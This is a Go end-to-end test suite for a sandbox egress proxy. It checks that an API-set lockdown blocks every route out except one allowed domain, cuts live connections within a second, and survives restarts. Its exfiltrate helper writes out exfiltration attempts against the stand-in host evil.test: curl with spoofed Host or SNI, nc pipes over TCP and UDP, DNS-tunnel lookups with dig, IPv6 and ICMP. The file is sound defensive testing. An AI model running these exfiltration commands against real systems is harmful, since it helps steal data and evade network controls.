package e2e

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"strings"
	"testing"
	"time"
)

// lockdownPolicy is what the untrusted step runs under: one domain.
const lockdownPolicy = `{"mode":"custom","allow_domains":["allowed.test"]}`

// TestLockdownStory is the product's promise: start open, fetch what is
// needed, lock down through the API, then nothing leaves but the one
// allowed domain, whatever the protocol.
func TestLockdownStory(t *testing.T) {
	e := newEnv(t, allowAllSandbox)
	a := e.api()
	out, err := e.curl("-o", "/dev/null", "-w", "%{size_download}", "--resolve", "evil.test:443:198.51.100.66",
		"https://evil.test/download?size=1000000")
	if err != nil || out != "1000000" {
		t.Fatalf("download in allow-all: %v, %q bytes", err, out)
	}
	a.put(lockdownPolicy)
	if out, err := e.curl("--resolve", "allowed.test:443:198.51.100.10", "https://allowed.test/still"); err != nil || !strings.Contains(out, "hello allowed.test") {
		t.Fatalf("allowed domain refused after lock-down: %v %q", err, out)
	}
	e.exfiltrate(t, "exfil")
}

// exfiltrate tries every way out it knows, each carrying marker, and
// checks that none works and the internet saw none of it.
func (e *env) exfiltrate(t *testing.T, marker string) {
	t.Helper()
	tlsConns := len(e.in.rec.matching("tls-conn 198.51.100.66"))
	tries := []struct {
		name string
		args []string
	}{
		{"tls denied sni", []string{"curl", "-sS", "--max-time", "3", "-k", "--resolve", "evil.test:443:198.51.100.66", "https://evil.test/" + marker + "-tls"}},
		{"tls denied sni to an allowed address", []string{"curl", "-sS", "--max-time", "3", "-k", "--resolve", "evil.test:443:198.51.100.10", "https://evil.test/" + marker + "-tls10"}},
		{"tls without sni", []string{"curl", "-sS", "--max-time", "3", "-k", "https://198.51.100.66/" + marker + "-nosni"}},
		{"http denied host", []string{"curl", "-sS", "--max-time", "3", "--fail", "--resolve", "evil.test:80:198.51.100.66", "http://evil.test/" + marker + "-http"}},
		{"http denied host to an allowed address", []string{"curl", "-sS", "--max-time", "3", "--fail", "-H", "Host: evil.test", "http://198.51.100.10/" + marker + "-host"}},
		{"raw tcp", []string{"sh", "-c", "echo " + marker + "-tcp | nc -w 2 -q 1 198.51.100.78 9000"}},
		{"udp", []string{"sh", "-c", "echo " + marker + "-udp | nc -u -w 1 198.51.100.78 9001"}},
		{"dns", []string{"dig", "+time=1", "+tries=1", "@198.51.100.53", marker + "-secret.evil.test"}},
		{"dns over tcp", []string{"dig", "+tcp", "+time=1", "+tries=1", "@198.51.100.53", marker + "-tcpsecret.evil.test"}},
		{"ipv6 tls", []string{"curl", "-sS", "--max-time", "3", "-k", "--resolve", "evil.test:443:[2001:db8::66]", "https://evil.test/" + marker + "-tls6"}},
		{"ipv6 tcp", []string{"sh", "-c", "echo " + marker + "-tcp6 | nc -w 2 -q 1 2001:db8::66 9000"}},
		{"ipv6 udp", []string{"sh", "-c", "echo " + marker + "-udp6 | nc -u -w 1 2001:db8::66 9001"}},
		{"icmp", []string{"ping", "-c", "1", "-W", "1", "198.51.100.66"}},
		{"icmpv6", []string{"ping", "-6", "-c", "1", "-W", "1", "2001:db8::66"}},
	}
	for _, tc := range tries {
		t.Run(tc.name, func(t *testing.T) {
			out, err := e.sandbox(tc.args...)
			if err == nil && (strings.Contains(out, "hello") || strings.Contains(out, "ok "+marker) ||
				strings.Contains(out, "ANSWER SECTION") || strings.Contains(out, " 0% packet loss")) {
				t.Errorf("got through: %q", out)
			}
		})
	}
	time.Sleep(300 * time.Millisecond)
	e.noEvents(marker)
	if n := len(e.in.rec.matching("tls-conn 198.51.100.66")); n != tlsConns {
		t.Errorf("%d new TLS connections reached 198.51.100.66", n-tlsConns)
	}
}

// TestAPILockdownCutsLiveFlow: a connection to the sink opened while the
// sandbox may reach anything stops delivering bytes within 1 s of the PUT.
func TestAPILockdownCutsLiveFlow(t *testing.T) {
	e := newEnv(t, allowAllSandbox)
	a := e.api()
	c := e.dialSandbox(t, "198.51.100.78:9000")
	defer c.Close()
	br := bufio.NewReader(c)
	fmt.Fprintf(c, "before\n")
	if line, err := br.ReadString('\n'); err != nil || line != "ok before\n" {
		t.Fatalf("before lock-down: %q %v", line, err)
	}
	if conns := a.connections(); len(conns) != 1 || conns[0].Rule != "mode allow-all" {
		t.Fatalf("connections before lock-down: %+v", conns)
	}
	a.put(lockdownPolicy)
	locked := time.Now()
	writeAfter(c, locked, 1500*time.Millisecond)
	time.Sleep(300 * time.Millisecond)
	for _, ev := range e.in.rec.matching("tcp 198.51.100.78:9000", "after-") {
		var ms int
		fmt.Sscanf(ev[strings.Index(ev, "after-"):], "after-%d", &ms)
		if ms >= 1000 {
			t.Errorf("sink got %q more than 1 s after the lock-down", ev)
		}
	}
	if conns := a.connections(); len(conns) != 0 {
		t.Errorf("connections after lock-down: %+v", conns)
	}
	if !strings.Contains(e.logs.String(), `"msg":"flow cut by policy change"`) {
		t.Errorf("no log line for the cut flow")
	}
}

// writeAfter writes "after-MS" lines on c every 50 ms for d, MS being the
// time since t0, until a write fails.
func writeAfter(c net.Conn, t0 time.Time, d time.Duration) {
	for time.Since(t0) < d {
		if _, err := fmt.Fprintf(c, "after-%d\n", time.Since(t0).Milliseconds()); err != nil {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestAPILockdownSurvivesRestart: kill -9 and a restart keep an API
// lock-down, and so does a SIGHUP with a looser config file.
func TestAPILockdownSurvivesRestart(t *testing.T) {
	e := newEnv(t, allowAllSandbox)
	a := e.api()
	a.put(lockdownPolicy)
	e.kill9()
	e.start()
	if got := a.sandboxes(); len(got) != 1 || got[0].Source != "api" || got[0].Mode != "custom" {
		t.Fatalf("after restart: %+v", got)
	}
	if out, err := e.curl("--resolve", "allowed.test:443:198.51.100.10", "https://allowed.test/restarted"); err != nil || !strings.Contains(out, "hello allowed.test") {
		t.Fatalf("allowed domain after restart: %v %q", err, out)
	}
	e.exfiltrate(t, "exfil2")
	t.Run("sighup with a looser file", func(t *testing.T) {
		e.reload(allowAllSandbox, `"msg":"reloaded"`)
		if out, err := e.curl("--resolve", "evil.test:443:198.51.100.66", "https://evil.test/reloaded"); err == nil {
			t.Errorf("SIGHUP loosened an API lock-down: %q", out)
		}
		e.noEvents("/reloaded")
	})
}

// TestCutResetsSandbox: a download cut by a lock-down ends for the sandbox
// too, within 1 s, whatever the new mode. The proxy resets both sides;
// when bytes in flight to the sandbox were lost, that reset is not the one
// it expects, so it answers with a challenge ACK (RFC 5961), which the
// kernel rules must answer with a reset, not drop, for the sandbox's
// socket to end.
func TestCutResetsSandbox(t *testing.T) {
	for _, tc := range []struct{ name, policy string }{
		{"deny-all", `{"mode":"deny-all"}`},
		{"custom", `{"mode":"custom","allow_domains":["allowed.test"]}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, allowAllSandbox)
			var ln net.Listener
			if err := e.tp.Do(e.tp.Internet, func() (err error) {
				ln, err = net.Listen("tcp", "198.51.100.78:9100")
				return err
			}); err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			go func() { // an endless download
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					go func() {
						defer c.Close()
						io.Copy(c, zeroReader{})
					}()
				}
			}()
			var c *net.TCPConn
			if err := e.tp.Do(e.tp.Sandbox, func() error {
				nc, err := net.DialTimeout("tcp", "198.51.100.78:9100", 3*time.Second)
				if err == nil {
					c = nc.(*net.TCPConn)
					c.SetReadBuffer(64 << 10) // drains fast once reset
				}
				return err
			}); err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			ended := make(chan time.Time, 1)
			go func() { // a slow reader: the proxy always has bytes in flight
				buf := make([]byte, 16<<10)
				for {
					c.SetReadDeadline(time.Now().Add(10 * time.Second))
					if _, err := c.Read(buf); err != nil {
						ended <- time.Now()
						return
					}
					time.Sleep(5 * time.Millisecond)
				}
			}()
			time.Sleep(500 * time.Millisecond)
			// Lose what the proxy sends the sandbox around the cut, resets
			// aside: the reset then lies past what the sandbox received.
			e.tp.Run(e.tp.Sandbox, "nft", "add table inet cuttest { chain in { type filter hook input priority 0; "+
				"tcp sport 9100 tcp flags & rst == 0 drop; }; }")
			e.api().put(tc.policy)
			locked := time.Now()
			time.Sleep(100 * time.Millisecond)
			e.tp.Run(e.tp.Sandbox, "nft", "delete table inet cuttest")
			select {
			case at := <-ended:
				if d := at.Sub(locked); d > time.Second {
					t.Errorf("sandbox's download ended %v after the lock-down, want < 1 s", d)
				}
			case <-time.After(5 * time.Second):
				t.Fatalf("sandbox's download still running 5 s after the lock-down to %s", tc.name)
			}
		})
	}
}
